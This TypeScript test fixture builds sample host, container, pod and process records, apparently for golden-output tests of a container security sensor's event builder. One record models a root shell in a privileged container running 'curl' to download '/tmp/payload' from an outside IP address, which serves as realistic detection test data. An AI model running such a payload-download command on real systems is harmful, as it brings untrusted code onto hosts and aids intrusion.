// A small, realistic world for golden documents: one host, a privileged pod's container and a
// plain one, a container init, an interactive `podman exec -it` shell, its children.

import {
  allCapsMask,
  capMask,
  createEcsBuilder,
  type EcsBuilder,
  entityId,
  sequentialEventIds,
} from '../../src/ecs/index.js';
import type {
  AgentContext,
  ContainerContext,
  Credentials,
  HostContext,
  OrchestratorContext,
  ProcessInfo,
  ProcessRef,
} from '../../src/ecs/input.js';

export const AGENT: AgentContext = {
  id: '7241730b-b86d-4028-a8a8-83d8bbecfd6a',
  version: '0.1.0',
  name: 'd4c-node-1',
};
const BOOT_ID = '0f3c2a71-8f1e-4b7e-9d3a-5c1e2b7a9d10';
/** 2026-11-28T00:00:00.000Z */
const BOOT_TIME_NS = 1_795_824_000_000_000_000n;
const SEC = 1_000_000_000n;

export const HOST: HostContext = {
  id: 'c0ffee00c0ffee00c0ffee00c0ffee00',
  name: 'node-1',
  hostname: 'node-1',
  architecture: 'x86_64',
  bootId: BOOT_ID,
  pidNsIno: 4026531836,
  ip: ['10.0.0.5', 'fe80::1'],
  mac: ['02-42-AC-11-00-02'],
  os: {
    name: 'Debian GNU/Linux',
    kernel: '6.18.44',
    family: 'debian',
    platform: 'debian',
    version: '13',
    full: 'Debian GNU/Linux 13 (trixie)',
    codename: 'trixie',
  },
  bootTimeNs: BOOT_TIME_NS,
};

/** Builder with a fixed clock (boot + 1 h) and sequential event ids. */
export function builder(idPrefix = 'evt'): EcsBuilder {
  return createEcsBuilder({
    agent: AGENT,
    host: HOST,
    cloud: {
      provider: 'gcp',
      region: 'europe-west1',
      availabilityZone: 'europe-west1-b',
      projectId: 'proj-1',
      instanceId: '4713371234567890',
      instanceName: 'node-1',
    },
    namespace: 'default',
    eventIds: sequentialEventIds(idPrefix),
    now: () => Number((BOOT_TIME_NS + 3600n * SEC) / 1_000_000n),
  });
}

export const NGINX: ContainerContext = {
  id: 'b781c8e58bf9445eaef225020af698dfb781c8e58bf9445eaef225020af698df',
  name: 'web',
  image: {
    name: 'docker.io/library/nginx',
    tag: '1.27',
    digests: ['sha256:0a399eb16751829e1af26fea27b20c3ec28d7ab1fb72182879dcae1cca21206a'],
  },
  runtime: 'runc',
  privileged: false,
};

export const PRIV: ContainerContext = {
  id: '5d1f6a0e3c2b49d8a7e6f5c4b3a29180716253443526170809a0b1c2d3e4f5a6',
  name: 'debug',
  image: { name: 'docker.io/library/alpine', tag: '3.20' },
  runtime: 'crun',
  privileged: true,
};

export const POD: OrchestratorContext = {
  clusterId: '9b2f7c1e-1111-4a2b-8c3d-000000000001',
  clusterName: 'lab',
  namespace: 'shop',
  podName: 'web-7d9f8-abcde',
  podUid: '3e0d8c2a-2222-4b3c-9d4e-000000000002',
  podIp: '10.244.1.17',
  labels: { app: 'web', 'app.kubernetes.io/part-of': 'shop' },
  annotations: { 'kubectl.kubernetes.io/default-container': 'web' },
  parentType: 'ReplicaSet',
};

export const root: Credentials = {
  real: { id: 0, name: 'root' },
  effective: { id: 0, name: 'root' },
  saved: { id: 0, name: 'root' },
};
const www: Credentials = {
  real: { id: 101, name: 'nginx' },
  effective: { id: 101, name: 'nginx' },
  saved: { id: 101, name: 'nginx' },
};

export const DEFAULT_CAPS = capMask([
  'CAP_CHOWN',
  'CAP_DAC_OVERRIDE',
  'CAP_FOWNER',
  'CAP_FSETID',
  'CAP_KILL',
  'CAP_NET_BIND_SERVICE',
  'CAP_SETFCAP',
  'CAP_SETGID',
  'CAP_SETPCAP',
  'CAP_SETUID',
  'CAP_SYS_CHROOT',
]).mask;

export const t = (sec: number): bigint => BigInt(Math.round(sec * 1000)) * 1_000_000n;
const eid = (pid: number, startNs: bigint) =>
  entityId(AGENT.id, Number(BOOT_TIME_NS / 1_000_000n), pid, startNs);

// Host-side runtime processes (lightweight leader records).
export const conmon = {
  pid: 4100,
  entityId: eid(4100, t(100)),
  name: 'conmon',
  executable: '/usr/bin/conmon',
};

/** nginx master: the container's init (vpid 1), a container entry leader. */
export const nginxInit: ProcessInfo = {
  pid: 4200,
  vpid: 1,
  tid: 4200,
  ppid: 4100,
  pgid: 4200,
  sid: 4200,
  entityId: eid(4200, t(100.5)),
  startNs: t(100.5),
  executable: '/usr/sbin/nginx',
  name: 'nginx',
  args: ['nginx', '-g', 'daemon off;'],
  workingDirectory: '/',
  user: root,
  group: root,
  capEffective: DEFAULT_CAPS,
  capPermitted: DEFAULT_CAPS,
  parent: conmon,
  containerEntry: 'init',
};
nginxInit.groupLeader = nginxInit;
nginxInit.sessionLeader = nginxInit;
nginxInit.entryLeader = nginxInit;
nginxInit.entryMetaType = 'container';

/** An nginx worker forked by the master. */
export const nginxWorker: ProcessInfo = {
  ...nginxInit,
  pid: 4210,
  vpid: 29,
  tid: 4210,
  ppid: 4200,
  entityId: eid(4210, t(100.75)),
  startNs: t(100.75),
  user: www,
  group: www,
  capEffective: 0n,
  parent: nginxInit,
  groupLeader: nginxInit,
  sessionLeader: nginxInit,
  entryLeader: nginxInit,
};

/** `podman exec -it debug bash`: a session leader on /dev/pts/0 whose parent is crun. */
const crun = { pid: 5000, entityId: eid(5000, t(200)), name: 'crun', executable: '/usr/bin/crun' };
export const shell: ProcessInfo = {
  pid: 5001,
  vpid: 7,
  tid: 5001,
  ppid: 5000,
  pgid: 5001,
  sid: 5001,
  entityId: eid(5001, t(200.01)),
  startNs: t(200.01),
  executable: '/bin/bash',
  name: 'bash',
  args: ['bash'],
  workingDirectory: '/root',
  tty: { major: 136, minor: 0 },
  user: root,
  group: root,
  capEffective: allCapsMask(),
  capPermitted: allCapsMask(),
  parent: crun,
  containerEntry: 'exec',
  previous: [{ executable: '/usr/bin/crun', args: ['/usr/bin/crun', 'exec', '--tty', 'debug', 'bash'] }],
};
shell.groupLeader = shell;
shell.sessionLeader = shell;
shell.entryLeader = shell;
shell.entryMetaType = 'container';

/** The shell's child: forked (still bash), then exec'd curl in its own process group. */
export const child: ProcessInfo = {
  ...shell,
  pid: 5010,
  vpid: 12,
  tid: 5010,
  ppid: 5001,
  pgid: 5010,
  entityId: eid(5010, t(230.25)),
  startNs: t(230.25),
  args: ['bash'],
  parent: shell,
  sessionLeader: shell,
  entryLeader: shell,
  previous: undefined,
};
child.groupLeader = child;

export const curl: ProcessInfo = {
  ...child,
  executable: '/usr/bin/curl',
  name: 'curl',
  args: ['curl', '-o', '/tmp/payload', 'http://203.0.113.9/payload'],
  previous: [{ executable: '/bin/bash', args: ['bash'] }],
};
// The process table updates a record in place of the old one on exec: the group leader (the
// process itself) shows the new image.
curl.groupLeader = curl;

export const curlExited: ProcessInfo = { ...curl, exitCode: 0, endNs: t(231.5) };

// argv padded past the sensor's 4 KiB bound: 301 arguments, 104 kept (the last cut short). Its
// own group, session and entry leader, under a parent that was padded the same way.
const PADDED_ARGS = [
  'true',
  ...Array.from({ length: 102 }, (_, i) => `${String(i).padStart(3, '0')}${'x'.repeat(36)}`),
  '102xxxx',
];
export const paddedParent: ProcessRef = {
  ...child,
  pid: 5101,
  entityId: eid(5101, t(240)),
  startNs: t(240),
  executable: '/usr/bin/true',
  name: 'true',
  args: PADDED_ARGS,
  argsCount: 301,
  argsTruncated: true,
};
export const padded: ProcessInfo = {
  ...child,
  pid: 5102,
  ppid: 5101,
  pgid: 5102,
  sid: 5102,
  entityId: eid(5102, t(240.5)),
  startNs: t(240.5),
  executable: '/usr/bin/true',
  name: 'true',
  args: PADDED_ARGS,
  argsCount: 301,
  argsTruncated: true,
  parent: paddedParent,
  previous: undefined,
};
padded.groupLeader = padded;
padded.sessionLeader = padded;
padded.entryLeader = padded;
